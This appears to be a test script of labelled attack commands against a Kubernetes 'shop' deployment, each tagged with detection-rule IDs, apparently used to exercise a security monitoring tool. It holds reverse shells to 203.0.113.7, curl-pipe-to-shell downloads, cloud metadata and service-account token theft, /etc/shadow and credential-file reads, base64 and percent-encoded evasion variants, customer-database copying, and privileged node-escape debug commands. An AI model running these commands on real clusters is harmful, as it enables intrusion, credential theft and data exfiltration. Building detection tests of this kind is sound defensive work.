# Commands in containers. 01-looking-around.sh says how to read this.

#: exec | D016 D027 | mallory
kubectl exec -n shop deployment/checkout -- /bin/sh -c id
#: exec-spdy | D016 | mallory
KUBECTL_REMOTE_COMMAND_WEBSOCKETS=false kubectl exec -n shop deployment/checkout -- /bin/bash
#: exec-interactive | D029 D016 | mallory
script -qec 'kubectl exec -it -n shop deployment/checkout -- bash' /dev/null </dev/null
#: exec-kube-system | D017 D016 | mallory
kubectl exec -n kube-system daemonset/kube-proxy -- iptables-save
#: exec-privileged | D168 D017 | mallory
kubectl exec -n kube-system daemonset/cilium -- nsenter -t 1 -m -u -i -n sh
#: exec-reverse-shell | D021 | mallory
kubectl exec -n shop deployment/checkout -- bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
#: exec-reverse-shell-python | D021 | mallory
kubectl exec -n shop deployment/checkout -- python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
#: exec-netcat | D021 | mallory
kubectl exec -n shop deployment/checkout -- nc -e /bin/sh 203.0.113.7 4444
#: exec-decoded | D021 | mallory
kubectl exec -n shop deployment/checkout -- sh -c 'echo Y3VybCAyMDMuMC4xMTMuNy94LnNo | base64 -d | sh'
#: exec-download | D022 D023 | mallory
kubectl exec -n shop deployment/checkout -- sh -c 'curl -fsSL http://203.0.113.7/x.sh | sh'
#: exec-download-wget | D022 | mallory
kubectl exec -n shop deployment/checkout -- wget -qO /tmp/x https://files.example.net/x
#: exec-metadata | D024 | mallory
kubectl exec -n shop deployment/checkout -- curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
#: exec-metadata-decimal | D024 | mallory
kubectl exec -n shop deployment/checkout -- wget -qO- http://2852039166/latest/meta-data/
#: exec-metadata-hex | D024 | mallory
kubectl exec -n shop deployment/checkout -- curl -s http://0xA9FEA9FE/computeMetadata/v1/ -H 'Metadata-Flavor: Google'
#: exec-shadow | D025 | mallory
kubectl exec -n shop deployment/checkout -- cat /etc/shadow
#: exec-environ | D025 | mallory
kubectl exec -n shop deployment/checkout -- sh -c 'cat /proc/1/environ; ls -la /root/.kube/config ~/.aws/credentials'
#: exec-token | D026 | mallory
kubectl exec -n shop deployment/checkout -- cat /var/run/secrets/kubernetes.io/serviceaccount/token
#: exec-token-hidden | D026 | mallory
kubectl exec -n shop deployment/checkout -- sh -c 'cd /run//secrets/kubernetes.io/./serviceaccount && cat tok*'
#: exec-percent | D025 D016 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
curl -s -o /dev/null -m 2 --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: bm90IGEgc2VjcmV0IGtleQ==' -H 'Sec-WebSocket-Protocol: v5.channel.k8s.io' \
  "$SERVER/api/v1/namespaces/shop/pods/$pod/exec?stdout=1&command=%2fbin%2f%73%68&command=-c&command=cat+%2f%65tc%2f%2fsh%61dow" || true
#: exec-reverse-percent | D021 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
curl -s -o /dev/null -m 2 --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: bm90IGEgc2VjcmV0IGtleQ==' -H 'Sec-WebSocket-Protocol: v5.channel.k8s.io' \
  "$SERVER/api/v1/namespaces/shop/pods/$pod/exec?stdout=1&container=checkout&command=bash&command=-c&command=bash%20-i%20>%26+%2fd%65v/tcp/203.0.113.7/4444+0>%261" || true
#: copy-out | D028 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
kubectl cp "shop/$pod:/var/lib/app/customers.db" customers.db || true
#: copy-in | D028 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
echo x >tool
kubectl cp tool "shop/$pod:/tmp/tool" || true
#: attach | D018 | mallory
timeout 3 kubectl attach -n shop deployment/checkout || true
#: port-forward | D019 | mallory
timeout 2 kubectl port-forward -n shop deployment/checkout 18080:8080 || true
#: ephemeral | D031 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
kubectl debug -n shop "$pod" --image=busybox --target=checkout -- sh
#: ephemeral-privileged | D047 D031 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
kubectl debug -n shop "$pod" --image=busybox --profile=sysadmin -- sh
#: debug-copy | D060 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
kubectl debug -n shop "$pod" --image=busybox --copy-to=checkout-debug --share-processes -- sh
#: debug-node | D032 D053 D056 | mallory
kubectl debug node/worker-1 --image=alpine -- chroot /host
#: debug-node-sysadmin | D032 D046 D062 | mallory
kubectl debug node/worker-1 --image=alpine --profile=sysadmin -- chroot /host
